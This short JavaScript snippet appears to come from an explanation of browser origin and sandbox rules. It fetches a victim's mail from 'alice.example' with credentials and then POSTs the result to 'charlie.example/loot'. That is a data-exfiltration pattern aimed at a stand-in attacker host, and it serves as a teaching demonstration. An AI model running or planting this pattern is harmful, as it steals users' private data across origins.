// The same script in both documents; only where it stands is different.
const place = location.pathname === "/" ? "page" : "frame";

fetch(`https://alice.example/mail?${place}`, { credentials: "include" })
  .then((answer) => answer.text())
  .then((mail) => {
    console.log(`${place}: ${mail}`);
    // From the sandbox even Charlie's own server is another origin; to send something there needs no permission.
    return fetch("https://charlie.example/loot", { method: "POST", mode: "no-cors", body: mail });
  })
  .catch((error) => console.log(`${place}: ${error}`));
